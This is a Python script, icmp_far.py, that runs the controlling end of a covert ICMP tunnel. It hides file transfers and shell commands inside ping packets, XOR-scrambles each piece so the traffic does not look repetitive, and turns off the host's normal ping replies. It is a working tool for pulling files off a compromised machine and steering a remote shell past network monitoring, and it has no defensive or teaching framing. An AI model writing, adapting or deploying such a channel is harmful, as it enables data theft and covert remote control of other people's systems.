# SPDX-License-Identifier: Apache-2.0
"""icmp_far.py file FILE OTHER: the far side of a tunnel in pings: keeps what comes in FILE, sends OTHER back, piece by piece.
icmp_far.py shell COMMAND…: of a shell in pings: answers each ping with the next command, and in the end with "exit".

Its kernel answers no pings. What the near side says is one piece a ping, numbered by the ping; an empty piece ends it.
"""

import socket
import struct
import sys
from pathlib import Path

PIECE = 1000


def checksum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def message(kind: int, ident: int, number: int, payload: bytes) -> bytes:
    head = struct.pack(">BBHHH", kind, 0, 0, ident, number)
    return head[:2] + struct.pack(">H", checksum(head + payload)) + head[4:] + payload


def hidden(data: bytes, number: int) -> bytes:
    """Each piece another: what lies in pings must not be seen to be the same."""
    return bytes(byte ^ (37 * number + 101 * at & 255) for at, byte in enumerate(data))


def main() -> None:
    Path("/proc/sys/net/ipv4/icmp_echo_ignore_all").write_text("1")
    mode, *words = sys.argv[1:]
    back = Path(words[1]).read_bytes() if mode == "file" else b""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        kept = bytearray()
        print("ready", flush=True)
        while True:
            packet, (near, _) = raw.recvfrom(65536)
            kind, _, _, ident, number = struct.unpack_from(">BBHHH", packet, 20)
            if kind != 8:
                continue
            if mode == "file":
                kept += hidden(packet[28:], number)
                Path(words[0]).write_bytes(kept)
                answer = hidden(back[number * PIECE : (number + 1) * PIECE], number + 1)
            else:
                answer = words[number].encode() if number < len(words) else b"exit"
            raw.sendto(message(0, ident, number, answer), (near, 0))


if __name__ == "__main__":
    main()
